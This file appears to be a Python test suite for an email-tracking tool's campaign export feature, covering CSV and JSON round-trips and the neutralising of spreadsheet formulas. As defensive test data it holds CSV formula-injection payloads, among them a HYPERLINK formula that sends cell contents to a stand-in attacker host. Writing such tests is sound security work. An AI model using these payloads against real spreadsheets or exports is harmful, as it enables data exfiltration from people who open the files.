"""Exports of a campaign's events and recipients, by API and CLI, in CSV and
JSON, parsed back and compared with what the API lists one message at a time."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from tests.helpers import cli
from tests.inprocess import InProcess
from tests.traffic import build_campaign, settled_report


def parse(text: str, fmt: str) -> list[dict[str, Any]]:
    if fmt == "json":
        return list(json.loads(text))
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_exports_round_trip(tracked_app: InProcess, tmp_path: Path, fmt: str) -> None:
    cid, m = build_campaign(tracked_app, f"export-{fmt}")
    settled_report(tracked_app, cid)
    want = {e["id"]: e for one in m.values() for e in tracked_app.events(one["id"])}
    assert len(want) == 16

    r = tracked_app.api(
        "GET", f"/api/v1/campaigns/{cid}/export", params={"what": "events", "format": fmt}
    )
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv" if fmt == "csv" else "application/json")
    assert "attachment" in r.headers["content-disposition"]
    got = parse(r.text, fmt)
    assert sorted(int(e["id"]) for e in got) == sorted(want)
    for e in got:
        ref = want[int(e["id"])]
        assert e["label"] == ref["label"] and e["kind"] == ref["kind"] and e["at"] == ref["at"]
        reasons = e["reasons"] if fmt == "json" else e["reasons"].split()
        assert reasons == ref["reasons"]
        assert e["recipient"].endswith("@example.org")

    out = tmp_path / f"recipients.{fmt}"
    cli(
        "export",
        f"export-{fmt}",
        "--what",
        "recipients",
        "--format",
        fmt,
        "--out",
        str(out),
        db=tracked_app.db,
    )
    rows = {r["recipient"].split("@")[0]: r for r in parse(out.read_text(), fmt)}
    assert set(rows) == {"h1", "h2", "g1", "g2", "g3", "a1", "a2", "s1", "b1"}
    h1, a1 = rows["h1"], rows["a1"]
    assert int(h1["open_human_direct"]) == 3 and int(a1["open_machine_prefetch"]) == 1
    assert str(h1["opened"]).lower() == "true" and str(a1["opened"]).lower() == "false"

    ev_file = tmp_path / f"events.{fmt}"
    cli(
        "export",
        str(cid),
        "--what",
        "events",
        "--format",
        fmt,
        "--out",
        str(ev_file),
        db=tracked_app.db,
    )
    assert sorted(int(e["id"]) for e in parse(ev_file.read_text(), fmt)) == sorted(want)


def test_export_of_an_empty_campaign_and_bad_input(tracked_app: InProcess) -> None:
    cid = tracked_app.api("POST", "/api/v1/campaigns", json={"name": "empty"}).json()["id"]
    for fmt, body in (("json", []), ("csv", None)):
        r = tracked_app.api("GET", f"/api/v1/campaigns/{cid}/export", params={"format": fmt})
        assert r.status_code == 200
        if body is not None:
            assert json.loads(r.text) == body
        else:
            assert r.text.splitlines()[0].startswith("id,message_id,recipient")
    xml = tracked_app.api("GET", f"/api/v1/campaigns/{cid}/export", params={"format": "xml"})
    assert xml.status_code == 422
    assert tracked_app.api("GET", "/api/v1/campaigns/424242/export").status_code == 404


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil.example")', '\'=HYPERLINK("http://evil.example")'),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("Mozilla/5.0", "Mozilla/5.0"),
        ("a=b", "a=b"),
        (-1.5, -1.5),  # numbers are numbers, not text a spreadsheet would run
        (None, ""),
    ],
)
def test_csv_cells_never_start_a_formula(value: Any, cell: Any) -> None:
    from mailbeacon.reports.export import _cell

    assert _cell(value) == cell


def test_csv_export_neutralises_a_formula_in_a_user_agent(
    tracked_app: InProcess, tmp_path: Path
) -> None:
    from tests.traffic import hit

    cid = tracked_app.api("POST", "/api/v1/campaigns", json={"name": "formula"}).json()["id"]
    msg = tracked_app.message(recipient="=1+2@example.org", campaign_id=cid)
    evil = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)", "-2+3", "+cmd"]
    for ua in evil:
        hit(msg["open_url"], "198.51.100.20", ua)
    out = tmp_path / "events.csv"
    cli("export", "formula", "--format", "csv", "--out", str(out), db=tracked_app.db)
    got = parse(out.read_text(), "csv")
    assert sorted(r["user_agent"] for r in got) == sorted("'" + ua for ua in evil)
    assert {r["recipient"] for r in got} == {"'=1+2@example.org"}
    # JSON keeps the value exactly as it came: only spreadsheets run formulas.
    r = tracked_app.api("GET", f"/api/v1/campaigns/{cid}/export", params={"format": "json"})
    assert sorted(e["user_agent"] for e in r.json()) == sorted(evil)
